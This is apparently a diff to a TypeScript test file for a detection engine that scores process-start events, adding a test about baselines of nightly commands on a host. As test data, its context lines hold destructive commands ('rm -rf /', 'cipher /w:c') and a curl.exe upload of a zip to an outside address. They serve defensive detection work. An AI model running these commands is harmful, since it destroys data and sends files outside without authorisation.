@@ -41,6 +41,14 @@ describe('[SIG-15] a deed is told from its command, path or parent', () => {
     [destructiveCommand, 'process_started detail="rm -rf /tmp/build"', 'nothing'],
     [uploadTool, 'process_started detail="curl.exe --upload-file a.zip https://203.0.113.9/"', 'somebody copied a file outside on SRV-VC'],
   ])('%o %s', (behaviour, act, expected) => expect(told(behaviour, act)).toBe(expected))
+  it('[SIG-15] counts a new text of a host that does the same every night, and not one of a host that always does another', () => {
+    const command = (text: string): string => `process_started host=SRV-VC detail="sqlservr.exe · cmd.exe /c ${text}"`
+    const nightly = `D-30..D-1 02:00 ${command('export.bat')}`
+    const changing = Array.from({ length: 30 }, (_, n) => `D${n - 30} 02:00 ${command(`export-${n}.bat`)}`).join('\n')
+    const weight = (before: string): number => Math.max(0, ...run(scene(`${PLANT}\n${before}\nD6 10:00 ${command('whoami')}`), [unexpectedChild]).signals.filter(({ at }) => at > Date.UTC(2026, 5, 2)).map(({ terms }) => weightOf(terms)))
+    expect(weight(nightly)).toBeGreaterThanOrEqual(8)
+    expect(weight(changing)).toBeLessThan(8)
+  })
   it('weighs by the strongest sort and two for each further one', () => {
     const both = run(scene(`${PLANT}\nD6 10:00 process_started host=SRV-VC detail="rm -rf /"\nD6 10:01 process_started host=SRV-VC detail="cipher /w:c"`), [destructiveCommand]).signals
     const one = run(scene(`${PLANT}\nD6 10:00 process_started host=SRV-VC detail="rm -rf /"`), [destructiveCommand]).signals
